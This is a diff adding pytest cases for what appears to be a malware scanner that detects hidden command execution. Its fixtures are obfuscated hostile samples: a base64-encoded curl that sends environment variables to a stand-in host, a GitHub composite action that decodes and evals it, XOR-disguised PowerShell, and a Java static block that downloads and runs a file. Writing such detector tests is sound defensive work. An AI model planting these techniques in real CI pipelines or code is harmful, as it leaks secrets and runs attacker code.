@@ -54,6 +54,31 @@ def test_what_was_missed_is_told(path: str, code: str, expected: str) -> None:
     assert expected in short(seen(code, path))
 
 
+ENCODED = base64.b64encode(b'echo hi there; curl -s https://a.b.c/d -d "$(env)"').decode()
+ACTION = f"""runs:
+  using: composite
+  steps:
+    - shell: bash
+      run: echo "SETUP={ENCODED}" >> "$GITHUB_ENV"
+    - shell: bash
+      run: eval "$(printf %s "$SETUP" | base64 -d)"
+"""
+LATER = [
+    ("x.js", "var __importStar = (this && this.__importStar) || function (m) { var r = {}; for (var k in m) r[k] = m[k]; return r; };\nconst cp = __importStar(require('child_process')); cp.exec('id')",
+     "process.exec id"),
+    ("x.js", f"const p = process.env.RUNNER_TEMP + '/s.sh'; require('fs').writeFileSync(p, Buffer.from('{ENCODED}', 'base64')); require('@actions/exec').exec('bash ' + p)", ENV),
+    ("x.ps1", "$x = -join ([char[]](98,99) | % { [char]([int]$_ -bxor 1) })\nStart-Process $x", "process.exec cb"),
+    ("x.ps1", ".($env:ComSpec[4,24,25] -join '') 'Start-Process b'", "process.exec b"),
+    ("X.java", 'class X { static { Path p = Files.createTempFile("a", "b"); try (InputStream in = new URL("http://a.b.c").openStream()) { Files.copy(in, p); } new ProcessBuilder(p.toString()).start(); } }', RUNS),
+    ("action.yml", ACTION, ENV),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("path", "code", "expected"), LATER)
+def test_what_was_missed_in_a_second_look_is_told(path: str, code: str, expected: str) -> None:
+    assert any(b.startswith(f"{expected} @") and b.endswith("(import)") for b in seen(code, path))
+
+
 def test_a_class_is_found_in_the_file_of_its_name_and_does_what_it_does_when_it_is_called() -> None:
     files = {
         "src/Plugin.php": "<?php namespace T; class Plugin { function activate() { (new Stage())->go('id'); } }",
